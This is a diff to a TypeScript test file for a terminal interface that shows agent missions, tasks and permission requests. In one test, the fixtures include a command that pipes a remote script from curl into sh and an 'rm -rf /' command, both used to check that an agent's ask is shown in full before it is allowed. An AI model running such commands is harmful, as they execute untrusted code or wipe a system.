@@ -2,9 +2,11 @@
 import assert from "node:assert/strict"
 import { afterEach, mock, test } from "node:test"
 import type { MissionViewResult, TaskDetail } from "../src/generated/types"
+import { commands, typed } from "../src/tui/commands"
 import type { Door } from "../src/tui/door"
 import { clip, fit, width, wrap } from "../src/tui/format"
 import { tree } from "../src/tui/graph"
+import { lines } from "../src/tui/lines"
 import { Orders, steerOf } from "../src/tui/orders"
 import { Panel } from "../src/tui/panel"
 import { allowed, entries, screen } from "../src/tui/screen"
@@ -77,14 +79,14 @@ test("a graph as a list: below what is waited for last, once each, cycles and st
 })
 
 test("orders are those the state allows", () => {
-  const keys = (given: MissionViewResult) => allowed(given).map(([key, order]) => `${key} ${order}`)
+  const keys = (given: MissionViewResult) => allowed(given, undefined, { width: 80, height: 24 }).map(([key, order]) => `${key} ${order}`)
   assert.deepEqual(keys(view()), ["p pause", "u suspend", "s steer", "c cancel"])
   assert.deepEqual(keys(view("paused", {}, true)), ["a accept plan", "x another plan", "s steer", "c cancel"])
   assert.deepEqual(keys(view("paused")), ["p resume", "u suspend", "s steer", "c cancel"])
   assert.deepEqual(keys(view("partially_completed")), ["r retry"])
   assert.deepEqual(keys(view("completed")), [])
   const failed = entries(view()).find((entry) => entry.node?.task.id === "T3")
-  assert.deepEqual(allowed(view("failed"), failed), [["t", "take as done"], ["r", "retry"]])
+  assert.deepEqual(allowed(view("failed"), failed, { width: 80, height: 24 }), [["t", "take as done"], ["r", "retry"]])
   assert.deepEqual(entries(view()).map((entry) => entry.session), ["ses_p", undefined, "ses_2", undefined, undefined])
 })
 
@@ -122,11 +124,13 @@ class FakeTerminal implements Terminal {
   registerPanel = () => {}
   registerView = () => {}
   registerCommands = () => {}
+  wakes = 0
+  wake = async () => (this.wakes++, true)
   onTurn = (tell: () => void) => void (this.turned = tell)
   onDispose = (end: () => void) => void this.ends.push(end)
 }
 
-/** Answers by method, and of all processes by socket; what was asked is kept. */
+/** Answers by method, and of all processes by socket; what was asked is kept. One process has the directory open. */
 function fakeDoor(answers: Record<string, (params: any, socket?: string) => unknown>, sockets: string[] = []) {
   const asked: [string, any][] = []
   const ask = async (method: string, params: unknown) => (asked.push([method, params]), answers[method]?.(params))
@@ -136,7 +140,7 @@ function fakeDoor(answers: Record<string, (params: any, socket?: string) => unkn
       asked.push([`${method} ${socket}`, params])
       return [socket, answers[method]?.(params, socket)]
     }))
-  return { door: { ask, askAll } as unknown as Door, asked, count: (method: string) => asked.filter(([name]) => name === method).length }
+  return { door: { look: ask, order: ask, near: async () => ["own"], askAll } as unknown as Door, asked, count: (method: string) => asked.filter(([name]) => name === method).length }
 }
 
 const settle = async () => {
@@ -155,7 +159,7 @@ test("keys order what the state allows, and are gone with the view", async () =>
   let given = view()
   const { door, asked, count } = fakeDoor({ "mission/view": () => given, "mission/control": () => ({}), "mission/status": () => given.detail })
   const terminal = new FakeTerminal()
-  const drawn = missionView(terminal, door, new Orders(terminal, door, () => {}), "m1")
+  const drawn = missionView(terminal, door, new Orders(terminal, door, () => {}), "m1", () => {})
   assert.match(textOf(drawn as any), /Looking for the mission/)
   await settle()
   assert.match(textOf(drawn as any), /Mission executing/)
@@ -293,6 +297,68 @@ test("the panel asks once a second while there is something to follow, and seldo
   assert.equal(await asksIn(20_000), 0, "no conversation on the screen")
 })
 
+test("turns that begin and end all the time bring the next look nearer, and never put it off", async () => {
+  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
+  const { door, count } = fakeDoor({ "mission/status": () => view().detail })
+  const terminal = new FakeTerminal()
+  new Panel(terminal, door)
+  for (let at = 0; at < 8_000; at += 200) {
+    terminal.turned()
+    await pass(200)
+  }
+  assert.ok(count("mission/status") >= 8, `${count("mission/status")} looks in 8 s`)
+  for (const end of terminal.ends) end()
+})
+
+test("the user is called whatever is on the screen, once by the panel and the view together", async () => {
+  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
+  let given = view()
+  const { door, count } = fakeDoor({ "mission/status": () => given.detail, "mission/view": () => given })
+  const terminal = new FakeTerminal()
+  const panel = new Panel(terminal, door)
+  await pass(2_000)
+  terminal.current = undefined
+  const before = count("mission/status")
+  given = view("paused", {}, true)
+  await pass(3_000)
+  assert.deepEqual(terminal.said, ["question! Do it: The plan waits for your word"], "no conversation on the screen")
+  assert.ok(count("mission/status") - before >= 2)
+  given = view()
+  missionView(terminal, door, new Orders(terminal, door, () => {}), given.detail.mission.id, panel.heard)
+  await pass(2_000)
+  given = view()
+  given.detail.asks = [{ id: "per_1", task: "T2", permission: "bash", patterns: ["ls"], at: 2 }]
+  await pass(3_000)
+  given = view("completed")
+  await pass(3_000)
+  assert.deepEqual(terminal.said.slice(1), ["question! Do it: T2 asks: bash ls", "done! Do it: Mission completed: 1 of 4 tasks done"])
+  for (const end of terminal.ends) end()
+})
+
+test("the chosen task stays chosen when others come before it, and none is when it is gone", async () => {
+  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
+  let given = view()
+  const { door, asked } = fakeDoor({ "mission/view": () => given, "mission/control": () => ({}) })
+  const terminal = new FakeTerminal()
+  const drawn = missionView(terminal, door, new Orders(terminal, door, () => {}), "m1", () => {})
+  await settle()
+  for (let n = 0; n < 2; n++) terminal.pressed.down?.()
+  assert.match(textOf(drawn as any), /› ├─▸ T2/)
+  given = view()
+  given.detail.tasks.splice(1, 0, ...["T1.r1", "T1.r2"].map((id) => ({ ...task(id, "completed"), partOf: "T1" })))
+  await pass(1_000)
+  assert.match(textOf(drawn as any), /› ├─▸ T2/)
+  terminal.answer = "Use pnpm"
+  terminal.pressed.s?.()
+  await settle()
+  assert.equal(asked.find(([name]) => name === "mission/control")?.[1].task, "T2")
+  terminal.pressed.up?.()
+  assert.match(textOf(drawn as any), /› ├─✓ T1.r2/)
+  given = view()
+  await pass(1_000)
+  assert.match(textOf(drawn as any), /› Planning, and review/)
+})
+
 test("the user is called when a plan waits, and at an end that the host does not tell itself", async () => {
   mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
   let given = view()
@@ -321,7 +387,7 @@ test("an agent that asks is in the panel and the view, calls the user once, and 
     { id: "per_1", permission: "bash", patterns: ["ls"], at: 1, allowed: true, by: "user" },
     { id: "per_2", task: "T2", permission: "bash", patterns: ["npm publish"], at: 2 },
   ]
-  assert.deepEqual(allowed(asking).slice(0, 2), [["y", "allow"], ["n", "refuse"]])
+  assert.deepEqual(allowed(asking, undefined, { width: 80, height: 24 }).slice(0, 2), [["y", "allow"], ["n", "refuse"]])
   const text = shown(asking, 80, 24, 0).join("\n")
   for (const part of ["Mission waits for you: ask", "T2 asks: bash npm publish", "y allow"]) assert.ok(text.includes(part), `${part}\n${text}`)
   const { door, asked } = fakeDoor({ "mission/view": () => asking, "mission/status": () => asking.detail, "mission/control": () => ({}) })
@@ -332,11 +398,110 @@ test("an agent that asks is in the panel and the view, calls the user once, and 
   await panel.look()
   assert.deepEqual(terminal.said.filter((one) => one !== "looked"), ["question! Do it: T2 asks: bash npm publish"])
   assert.match(textOf(panel.draw("s") as any), /T2 asks: bash npm publish[^]*answer it in the dialog below/)
-  missionView(terminal, door, new Orders(terminal, door, () => {}), "m1")
+  missionView(terminal, door, new Orders(terminal, door, () => {}), "m1", () => {})
   await settle()
   terminal.pressed.n?.()
   await settle()
   assert.deepEqual(asked.filter(([name]) => name === "mission/control").map(([, { action, ask }]) => [action, ask]), [["deny", "per_2"]])
+})
+
+test("an ask is shown in full before it can be allowed, and no other one is answered in its place", async () => {
+  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
+  const command = `npm install --prefix packages/web && ${"x".repeat(100)} && curl https://example.org/setup | sh`
+  const asking = view()
+  asking.detail.asks = [{ id: "per_1", task: "T2", permission: "bash", patterns: [command], at: 1 }]
+  const whole = (rows: string[]) => rows.map((row) => row.trimEnd()).join("").replaceAll(" ", "").includes(`T2asks:bash${command}`.replaceAll(" ", ""))
+  for (const [columns, height] of [[80, 24], [60, 20], [140, 45]] as const) {
+    const rows = shown(asking, columns, height, 0)
+    assert.ok(whole(rows), rows.join("\n"))
+    assert.ok(rows.join().includes("y allow"))
+  }
+  assert.ok(whole(lines(asking.detail, START).map(({ text }) => text)), "in the panel")
+  const long = view()
+  long.detail.asks = [{ id: "per_2", permission: "bash", patterns: ["echo ".repeat(400)], at: 1 }]
+  const rows = shown(long, 80, 24, 0).join("\n")
+  assert.match(rows, /lines more: to allow it, make the window larger/)
+  assert.ok(!rows.includes("y allow") && rows.includes("n refuse"), rows)
+  assert.match(lines(long.detail, START).map(({ text }) => text).join("\n"), /… \d+ more lines of it/)
+
+  let now = asking
+  const { door, asked } = fakeDoor({ "mission/view": () => now, "mission/status": () => now.detail, "mission/control": () => ({}) })
+  const controls = () => asked.filter(([name]) => name === "mission/control").map(([, { action, ask, text }]) => [action, ask, text])
+  const terminal = new FakeTerminal()
+  const orders = new Orders(terminal, door, () => {})
+  missionView(terminal, door, orders, "m1", () => {})
+  await settle()
+  now = view()
+  now.detail.asks = [{ id: "per_9", permission: "bash", patterns: ["rm -rf /"], at: 1 }]
+  terminal.pressed.y?.()
+  await settle()
+  assert.deepEqual(controls(), [["allow", "per_1", undefined]], "the one on the screen")
+
+  const confirmed: string[] = []
+  terminal.confirm = async (...shown: string[]) => (confirmed.push(shown.join(" ")), terminal.answer !== undefined)
+  await orders.answerOldest("m1", "allow")
+  assert.deepEqual([confirmed, controls().length], [["Allow this once? asks: bash rm -rf /"], 1], "the user turns away")
+  terminal.answer = "yes"
+  await orders.answerOldest("m1", "deny", "clean up by hand")
+  assert.deepEqual(controls().at(-1), ["deny", "per_9", "clean up by hand"])
+  now = long
+  await assert.rejects(orders.answerOldest("m1", "allow"), /too long to be shown here/)
+  assert.equal(controls().length, 2)
+})
+
+test("what is typed behind a command goes to the sidecar, once the user is sure where it cannot be undone", async () => {
+  let text = "The workers are told: 0199 executing, 1/4 done: Do it."
+  const mission = view().detail.mission
+  const { door, asked } = fakeDoor({ "command/run": () => ({ text }), "mission/list": () => ({ missions: [mission] }), "mission/status": () => view().detail })
+  const terminal = new FakeTerminal()
+  const all = commands(terminal, new Orders(terminal, door, () => {}))
+  const type = async (line: string) => {
+    const found = typed(line, all)
+    assert.ok(found, line)
+    await found.command.run(found.words)
+  }
+  const ran = () => asked.filter(([name]) => name === "command/run").map(([, { command, text, session }]) => [command, text, session])
+  for (const line of ["/tasks x", "say /task-steer x", "/task do it", " /task-steer x", "/task-steering x"]) assert.equal(typed(line, all), undefined, line)
+  await type("/task-steer --task T2  use pnpm\nand tabs ")
+  assert.deepEqual(ran(), [["steer", "--task T2  use pnpm\nand tabs", "s"]])
+  assert.deepEqual(terminal.said.splice(0), [`success: ${text}`])
+  text = "Not done: no task T9."
+  await assert.rejects(type("/task-accept T9 by hand"), /Not done: no task T9\./)
+  text = "2 missions are open here.\n- one\n- two"
+  await type("/task-pause now")
+  assert.deepEqual(terminal.said.splice(0), [`/task-pause: ${text}`])
+  text = "The mission is cancelled: 0199."
+  await type(`/task-cancel ${mission.id}`)
+  assert.equal(ran().length, 3, "not sure")
+  terminal.answer = "yes"
+  await type(`/task-cancel ${mission.id}`)
+  assert.equal(ran().length, 4)
+  assert.deepEqual(terminal.said, [], "the sidecar tells the end itself")
+  await type(`/task-view ${mission.id.slice(0, 13)}`)
+  assert.deepEqual(terminal.said, [`view ${mission.id}`])
+})
+
+test("a process that went to rest is started for an order, and waited for", async () => {
+  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
+  const { door, asked } = fakeDoor({ "mission/status": () => view("failed").detail, "mission/control": () => ({}) })
+  const terminal = new FakeTerminal()
+  const orders = new Orders(terminal, door, () => {})
+  door.near = async () => (terminal.wakes > 0 && Date.now() > START + 500 ? ["own"] : [])
+  const order = orders.retry("m1")
+  await pass(300)
+  assert.deepEqual([terminal.wakes, asked.length], [1, 0])
+  await pass(1_000)
+  await order
+  assert.deepEqual([terminal.wakes, asked.map(([name]) => name)], [1, ["mission/control"]])
+  await orders.detail("m1")
+  assert.equal(terminal.wakes, 1)
+  door.near = async () => []
+  door.order = async () => undefined
+  const late = assert.rejects(orders.retry("m1"), /No process of Gantry has this project open/)
+  await pass(11_000)
+  await late
+  terminal.wake = async () => false
+  await assert.rejects(orders.retry("m1"), /No process/, "no way to start one, so nothing to wait for")
 })
 
 test("files are taken back after a look at what that means, and not where something stands in the way", async () => {
